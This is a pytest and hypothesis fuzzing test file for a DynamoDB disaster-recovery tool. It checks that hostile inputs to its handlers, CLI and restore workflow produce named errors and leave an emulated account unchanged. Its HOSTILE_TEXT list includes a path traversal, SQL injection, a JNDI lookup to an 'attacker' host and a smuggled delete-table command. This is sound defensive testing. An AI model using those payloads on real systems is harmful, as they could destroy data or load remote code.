"""Input fuzzing gate: malformed and hostile inputs to every entry point get a named error (a
DynamoDbDrError subclass, or pydantic's ValidationError surfaced as errorType, or an argparse exit)
or a safe no-op, and the emulated account is unchanged afterwards.

The stack is deployed once per test (hypothesis runs all its examples inside one test call);
the account is snapshotted before and compared after every example."""

from __future__ import annotations

import argparse
import contextlib
import io
import json
from typing import Any

import pytest
from gates import report_gate
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from security_support import day, invoke, run_execution, scan_all, snapshot, stream_events, tick_event

from dynamodb_dr.core import errors, paths
from dynamodb_dr.core.config import ResolvedPolicies, Settings, TablePolicy, resolve_policies
from dynamodb_dr.core.events import ScheduleTick
from dynamodb_dr_local.cli import build_parser
from dynamodb_dr_local.drill.workload import create_customers_table, load_customers
from dynamodb_dr_local.emulator import DeployedStack, Emulator

pytestmark = pytest.mark.integration

FUZZ = settings(
    max_examples=50,
    deadline=None,
    derandomize=True,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
NAMED_ERRORS = {
    cls.__name__
    for cls in vars(errors).values()
    if isinstance(cls, type) and issubclass(cls, errors.DynamoDbDrError)
} | {"ValidationError"}

HOSTILE_TEXT = [
    "",
    " ",
    "../../etc/passwd",
    "customers\n",
    "customers\x00",
    "*",
    "customers-dr-*",
    "' OR '1'='1",
    "${jndi:ldap://attacker/x}",
    "{{7*7}}",
    "a" * 300,
    "customers; aws dynamodb delete-table --table-name customers",
    "\u202ecustomers",
    "CUSTOMERS",
    "customers/backup/*",
    "arn:aws:dynamodb:us-east-1:123456789012:table/customers",
]
hostile_text = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=60))
json_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), hostile_text)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)
    ),
    max_leaves=12,
)
times = st.one_of(
    st.sampled_from(
        [
            "2026-11-26T03:00:00",  # naive
            "2026-13-01T03:00:00Z",
            "2026-11-26 03:00:00 UTC",
            "<aws.scheduler.scheduled-time>",  # an unsubstituted placeholder
            "26/11/2026",
            "2026-11-26T03:00:00Z\nforged",
        ]
    ),
    json_values,
)


def _schedule_events() -> st.SearchStrategy[Any]:
    base = tick_event(day(0))
    mutated = st.fixed_dictionaries(
        {},
        optional={
            "task": json_values,
            "scheduled_time": times,
            "execution_id": st.one_of(st.text(max_size=400), json_values),
            "attempt": st.one_of(st.integers(min_value=-5, max_value=10**12), hostile_text, json_values),
            "tables": st.one_of(st.lists(hostile_text, max_size=4), json_values),
        },
    ).map(lambda overrides: {**base, **overrides})
    # Top-level JSON strings are left out: the emulator's router cannot pass them (json.loads).
    non_objects = st.one_of(st.none(), st.integers(), st.lists(json_values, max_size=3))
    return st.one_of(mutated, non_objects, st.dictionaries(st.text(max_size=12), json_values, max_size=5))


def _is_valid_tick(event: Any, protected: tuple[str, ...]) -> bool:
    if not isinstance(event, dict):
        return False
    try:
        tick = ScheduleTick.model_validate(event)
    except (ValidationError, ValueError, TypeError):
        return False
    return all(name in protected for name in tick.tables or ())


@pytest.fixture
def deployed(emulator: Emulator, stack: DeployedStack) -> DeployedStack:
    """The stack after one genuine run, so the ledger, PITR and a backup already exist."""
    payload, errored = invoke(emulator, stack.physical("BackupFunction"), tick_event(day(0)))
    assert not errored, payload
    return stack


def test_hostile_schedule_events(
    request: pytest.FixtureRequest, emulator: Emulator, deployed: DeployedStack
) -> None:
    tried: list[str] = []

    @FUZZ
    @given(event=_schedule_events())
    @example(event={**tick_event(day(0)), "tables": ["customers-dr-20261101"]})
    @example(event={**tick_event(day(0)), "tables": ["customers", "orders"]})
    @example(event={**tick_event(day(0)), "scheduled_time": "<aws.scheduler.scheduled-time>"})
    def check(event: Any) -> None:
        assume(not _is_valid_tick(event, ("customers",)))
        before = snapshot(emulator)
        payload, errored = invoke(emulator, deployed.physical("BackupFunction"), event)
        after = snapshot(emulator)
        tried.append(payload.get("errorType", "ok") if isinstance(payload, dict) else "ok")
        assert errored, f"an invalid event was accepted: {event!r} -> {payload!r}"
        assert payload["errorType"] in NAMED_ERRORS, payload
        assert before.diff(after) == [], event

    check()
    report_gate(
        request, "fuzz: schedule events", f"{len(tried)} hostile events, errors: {sorted(set(tried))}"
    )


def test_hostile_policy_documents_pure(request: pytest.FixtureRequest) -> None:
    current = Settings(ssm_prefix="/dynamodb-dr/s", protected_tables=("customers", "orders"), state_table="t")
    tried = 0
    documents = st.one_of(
        hostile_text,
        json_values.map(json.dumps),
        st.dictionaries(st.sampled_from(["customers", "orders", "ghost", "*"]), json_values, max_size=3).map(
            lambda tables: json.dumps({"tables": tables})
        ),
        st.sampled_from(["[" * 8192, '{"tables": ' * 2000, "\ufeff{}", '{"tables": {}, "tables": []}']),
    )

    @settings(max_examples=200, deadline=None, derandomize=True)
    @given(document=documents)
    def check(document: str) -> None:
        nonlocal tried
        tried += 1
        try:
            resolved = resolve_policies(current, document)
        except errors.DynamoDbDrError:
            return
        assert isinstance(resolved, ResolvedPolicies)
        assert set(resolved.policies) == set(current.protected_tables)
        for table in resolved.invalid:
            assert resolved.policies[table] == current.default_policy, (
                "an invalid entry falls back to defaults"
            )

    check()
    report_gate(request, "fuzz: policy documents", f"{tried} documents, all resolved or named errors")


def test_hostile_policy_documents_change_nothing(
    request: pytest.FixtureRequest, emulator: Emulator, deployed: DeployedStack
) -> None:
    ssm = emulator.clients.client("ssm")
    parameter = deployed.physical("PolicyParameter")
    original = ssm.get_parameter(Name=parameter)["Parameter"]["Value"]
    outcomes: list[str] = []
    documents = st.one_of(
        hostile_text.filter(lambda t: t.strip() != ""),
        json_values.map(json.dumps),
        st.dictionaries(st.sampled_from(["customers", "ghost"]), json_values, max_size=2).map(
            lambda tables: json.dumps({"tables": tables})
        ),
        st.fixed_dictionaries(
            {
                "backup_retention_days": st.one_of(st.integers(-10, 10**6), hostile_text),
                "min_backups_kept": st.one_of(st.integers(-10, 10**6), hostile_text),
            }
        ).map(lambda entry: json.dumps({"tables": {"customers": entry}})),
    )

    def without_policy(snap: Any) -> Any:
        snap.parameters.pop(parameter, None)
        return snap

    @FUZZ
    @given(document=documents)
    def check(document: str) -> None:
        before = without_policy(snapshot(emulator))
        ssm.put_parameter(Name=parameter, Value=document[:4096] or "x", Type="String", Overwrite=True)
        try:
            payload, errored = invoke(emulator, deployed.physical("BackupFunction"), tick_event(day(0)))
        finally:
            ssm.put_parameter(Name=parameter, Value=original, Type="String", Overwrite=True)
        after = without_policy(snapshot(emulator))
        outcomes.append(payload.get("errorType", "ok"))
        if errored:
            assert payload["errorType"] in NAMED_ERRORS, payload
        assert before.diff(after) == [], document

    check()
    report_gate(
        request, "fuzz: policy via handler", f"{len(outcomes)} documents, outcomes {sorted(set(outcomes))}"
    )


def test_hostile_settings_environment(request: pytest.FixtureRequest) -> None:
    valid = {
        "PROTECTED_TABLES": "customers,orders",
        "SSM_PREFIX": "/dynamodb-dr/stack",
        "STATE_TABLE": "state",
        "DEFAULT_POLICY": TablePolicy().model_dump_json(),
        "POWERTOOLS_METRICS_NAMESPACE": "DynamoDBDR",
    }
    tried = 0
    environments = st.one_of(
        st.fixed_dictionaries(
            {},
            optional={key: st.one_of(hostile_text, json_values.map(json.dumps)) for key in valid},
        ).map(lambda overrides: {**valid, **overrides}),
        st.lists(st.sampled_from(sorted(valid)), unique=True).map(
            lambda dropped: {k: v for k, v in valid.items() if k not in dropped}
        ),
        st.dictionaries(st.text(max_size=20), st.text(max_size=40), max_size=6),
    )

    @settings(max_examples=200, deadline=None, derandomize=True)
    @given(environ=environments)
    def check(environ: dict[str, str]) -> None:
        nonlocal tried
        tried += 1
        try:
            result = Settings.from_env(environ)
        except errors.ConfigurationError:
            return
        assert all(result.protected_tables)  # may be empty: tables tagged for the stack count too
        assert result.ssm_prefix.startswith("/")

    check()
    report_gate(
        request, "fuzz: settings environment", f"{tried} environments, all valid or ConfigurationError"
    )


def _cli_vocabulary(parser: argparse.ArgumentParser) -> list[str]:
    """Every sub-command and option string the CLI knows (new commands are picked up)."""
    words: list[str] = []
    for action in parser._actions:
        words.extend(action.option_strings)
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                words.append(name)
                words.extend(s for a in sub._actions for s in a.option_strings)
    return sorted(set(words))


def test_hostile_cli_arguments(request: pytest.FixtureRequest) -> None:
    vocabulary = _cli_vocabulary(build_parser())
    tried = 0
    exits: set[int] = set()
    argvs = st.lists(
        st.one_of(
            st.sampled_from(vocabulary),
            hostile_text,
            st.integers(-(10**30), 10**30).map(str),
            st.sampled_from(["9" * 5000, "-1", "0", "1e3", "--", "-", "=", "--items=-5"]),
        ),
        max_size=6,
    )

    @settings(max_examples=300, deadline=None, derandomize=True)
    @given(argv=argvs)
    def check(argv: list[str]) -> None:
        nonlocal tried
        tried += 1
        parser = build_parser()
        with contextlib.redirect_stderr(io.StringIO()), contextlib.redirect_stdout(io.StringIO()):
            try:
                args = parser.parse_args(argv)
            except SystemExit as exc:
                exits.add(int(exc.code or 0))
                return
        assert callable(args.run), "a parsed command always has its runner"
        for name, value in vars(args).items():
            if name in {"items", "backup_days"}:
                assert isinstance(value, int) and value >= 1, (name, value)

    check()
    assert exits <= {0, 2}, exits
    report_gate(request, "fuzz: CLI arguments", f"{tried} argument lists over {len(vocabulary)} known words")


RESTORE_BASE = {"tables": [{"logical": "customers"}], "use_latest": True, "cutover": "automatic"}
HOSTILE_TARGETS = ["customers", "unrelated", "customers-dr-", "customers-dr-../x", "customers-dr-*", "*", ""]


def _restore_requests() -> st.SearchStrategy[Any]:
    table_requests = st.one_of(
        st.fixed_dictionaries(
            {"logical": st.one_of(st.sampled_from(["customers", "unrelated", "ghost"]), hostile_text)}
        ),
        st.fixed_dictionaries(
            {
                "logical": st.just("customers"),
                "target": st.one_of(st.sampled_from(HOSTILE_TARGETS), hostile_text),
            }
        ),
        json_values,
    )
    overrides = st.fixed_dictionaries(
        {},
        optional={
            "tables": st.one_of(st.lists(table_requests, max_size=3), json_values),
            "restore_time": times,
            "use_latest": json_values,
            "cutover": st.one_of(st.sampled_from(["automatic", "approval", "never", "now"]), json_values),
            "on_failure": st.one_of(st.sampled_from(["keep", "delete", "drop-original"]), json_values),
            "rollback": st.one_of(st.fixed_dictionaries({"execution": hostile_text}), json_values),
            "validation": json_values,
            "restore_timeout_minutes": st.one_of(st.integers(-5, 10**9), json_values),
        },
    )
    return st.one_of(
        overrides.map(lambda o: {**RESTORE_BASE, **o}), st.dictionaries(st.text(max_size=10), json_values)
    )


def test_hostile_restore_requests(request: pytest.FixtureRequest, emulator: Emulator, customers: str) -> None:
    """Whatever the request: the original and unrelated tables are untouched, only `<logical>-dr-*`
    tables appear, the pointer names an existing table, and a failure carries a named error."""

    dynamodb = emulator.clients.client("dynamodb")
    load_customers(emulator.clients.session_resource("dynamodb").Table(customers), 20, seed=21)
    create_customers_table(dynamodb, "unrelated")
    dynamodb.update_continuous_backups(
        TableName=customers, PointInTimeRecoverySpecification={"PointInTimeRecoveryEnabled": True}
    )
    stack = emulator.deploy(parameters={"ProtectedTables": customers})
    if "RestoreStateMachine" not in stack.resources:
        pytest.skip("the restore state machine has not landed")
    machine = stack.physical("RestoreStateMachine")
    originals = {t: scan_all(emulator, t) for t in (customers, "unrelated")}
    tables_before = set(dynamodb.list_tables()["TableNames"])
    pointer = paths.live_table_parameter(paths.stack_prefix(stack.name), customers)
    sfn = emulator.clients.client("stepfunctions")
    outcomes: list[str] = []

    @settings(max_examples=25, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
    @given(document=_restore_requests())
    def check(document: Any) -> None:
        arn = run_execution(emulator, machine, f"fuzz-{len(outcomes)}", json.dumps(document), timeout=60)
        described = sfn.describe_execution(executionArn=arn)
        outcomes.append(
            described["status"] if described["status"] != "FAILED" else described.get("error", "?")
        )
        if described["status"] == "FAILED":
            assert described.get("error") in NAMED_ERRORS, (
                document,
                described.get("error"),
                described.get("cause"),
            )
        for table, items in originals.items():
            assert scan_all(emulator, table) == items, f"{table} changed by {document!r}"
        new = set(dynamodb.list_tables()["TableNames"]) - tables_before
        assert all(t.startswith(f"{customers}-dr-") for t in new), new
        try:
            live = emulator.clients.client("ssm").get_parameter(Name=pointer)["Parameter"]["Value"]
        except Exception:
            live = customers
        assert live == customers or (live.startswith(f"{customers}-dr-") and live in new), live

    check()
    report_gate(
        request, "fuzz: restore requests", f"{len(outcomes)} requests, outcomes {sorted(set(outcomes))}"
    )


def test_hostile_stream_records(request: pytest.FixtureRequest, emulator: Emulator, customers: str) -> None:
    """Stream batches with hostile records, to every stream consumer (functions whose code reads
    `Records`): a named error or a per-record failure report; tables unchanged; archive objects
    only ever added, and only under a protected table's prefix."""
    items = load_customers(emulator.clients.session_resource("dynamodb").Table(customers), 5, seed=31)
    stack = emulator.deploy(parameters={"ProtectedTables": customers})
    consumers = [
        logical
        for logical, code_dir in sorted(stack.template.code_dirs.items())
        if logical in stack.resources and '"Records"' in (code_dir / "app.py").read_text()
    ]
    if not consumers:
        pytest.skip("no stream consumer has landed")
    good = stream_events(emulator, customers, items)[0]["Records"][0]
    records = st.one_of(
        st.just(good).map(
            lambda r: {**r, "eventSourceARN": r["eventSourceARN"].replace(customers, "unrelated")}
        ),
        st.fixed_dictionaries({}, optional=dict.fromkeys(good, json_values)).map(lambda o: {**good, **o}),
        st.fixed_dictionaries({}, optional=dict.fromkeys(good["dynamodb"], json_values)).map(
            lambda o: {**good, "dynamodb": {**good["dynamodb"], **o}}
        ),
        json_values,
    )
    batches = st.one_of(
        st.lists(records, min_size=1, max_size=3).map(lambda rs: {"Records": rs}), json_values
    )
    s3 = emulator.clients.client("s3")
    bucket = stack.physical("ArchiveBucket")
    originals = scan_all(emulator, customers)
    tried = 0

    def versions() -> set[str]:
        found: set[str] = set()
        for page in s3.get_paginator("list_object_versions").paginate(Bucket=bucket):
            found.update(f"{v['Key']}#{v['VersionId']}" for v in page.get("Versions", []))
        return found

    @settings(max_examples=25, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
    @given(batch=batches)
    def check(batch: Any) -> None:
        nonlocal tried
        for logical in consumers:
            tried += 1
            before = versions()
            payload, errored = invoke(emulator, stack.physical(logical), batch)
            if errored:
                assert payload["errorType"] in NAMED_ERRORS, payload
            else:
                assert isinstance(payload, dict), payload
            after = versions()
            assert before <= after, "an archive object version disappeared"
            assert all(v.startswith(f"cdc/table={customers}/") for v in after - before), after - before
        assert scan_all(emulator, customers) == originals

    check()
    report_gate(request, "fuzz: stream records", f"{tried} hostile batches to {', '.join(consumers)}")
